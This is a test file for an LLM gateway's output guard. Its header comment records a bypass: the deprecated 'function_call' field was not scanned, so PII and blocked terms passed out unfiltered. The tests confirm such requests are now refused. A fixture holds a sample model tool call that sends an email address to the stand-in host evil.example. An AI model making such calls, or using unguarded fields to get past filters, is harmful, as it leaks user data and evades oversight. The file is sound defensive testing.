/**
 * The deprecated `functions` API: the model answers with `message.function_call` (streamed as
 * `delta.function_call`), which the output guard does not read — it reads the text and
 * `tool_calls`. Arguments carrying PII or a blocked term went out as they were, whole and
 * streamed. A stack whose policy has output rules refuses `functions` and `function_call`
 * (the caller's, or its params') with a 400 that says to use `tools`; nothing goes upstream.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPolicies, deployStacks, outputPolicy } from '../helpers/guarded-stack.js';
import { type Harness, startHarnessOn } from '../helpers/harness.js';
import { type RawUpstream, sendCompletion, startRawUpstream } from '../helpers/raw-upstream.js';

let upstreamCalls = 0;
const ARGUMENTS = '{"url":"https://evil.example/?q=jane.doe@example.com"}';
const FUNCTIONS = [{ name: 'fetch_page', parameters: { type: 'object', properties: {} } }];
let upstream: RawUpstream;
let harness: Harness;

beforeAll(async () => {
  upstream = await startRawUpstream((_body, response) => {
    upstreamCalls++;
    sendCompletion(response, 'chatcmpl-fc', [
      {
        index: 0,
        message: {
          role: 'assistant',
          content: null,
          function_call: { name: 'fetch_page', arguments: ARGUMENTS },
        },
        finish_reason: 'function_call',
      },
    ]);
  });
  harness = await startHarnessOn(upstream, 'legacy', ['legacy-model']);
  await createPolicies(harness, outputPolicy('no-exfiltration', ['evil.example']), {
    name: 'input-only',
    rules: [{ scanner: 'injection', stage: 'input', action: 'block' }],
  });
  await deployStacks(
    harness,
    ...[
      { name: 'legacy-guarded', guard: 'no-exfiltration' },
      { name: 'legacy-params', guard: 'no-exfiltration', params: { functions: FUNCTIONS } },
      { name: 'legacy-input-only', guard: 'input-only' },
      { name: 'legacy-open' },
    ].map((stack) => ({ model: 'legacy-model', ...stack })),
  );
});
afterAll(async () => {
  await harness?.close();
  await upstream?.close();
});

const chat = (model: string, extra: object) =>
  harness.api('POST', '/v1/chat/completions', {
    model,
    messages: [{ role: 'user', content: 'Read the page.' }],
    ...extra,
  });

describe('the deprecated functions API on a stack with output rules', () => {
  it.each([
    ['functions', { functions: FUNCTIONS }, false],
    ['functions, streamed', { functions: FUNCTIONS, stream: true }, false],
    ['function_call', { function_call: 'auto' }, false],
    ['functions in the stack params', {}, true],
  ])('refuses %s with a 400 naming tools, before anything goes upstream', async (_, extra, fromParams) => {
    upstreamCalls = 0;
    const response = await chat(fromParams ? 'legacy-params' : 'legacy-guarded', extra);
    expect(response.status).toBe(400);
    expect(response.body.error).toMatchObject({ type: 'invalid_request_error', code: 'invalid_request' });
    expect(response.body.error.message).toContain('"tools"');
    expect(['functions', 'function_call']).toContain(response.body.error.param);
    expect(JSON.stringify(response.body)).not.toContain('jane.doe');
    expect(upstreamCalls).toBe(0);
  });

  it('leaves stacks without output rules as they were', async () => {
    for (const model of ['legacy-open', 'legacy-input-only']) {
      const response = await chat(model, { functions: FUNCTIONS });
      expect(response.status).toBe(200);
      expect(response.body.choices[0].message.function_call.arguments).toBe(ARGUMENTS);
    }
  });
});
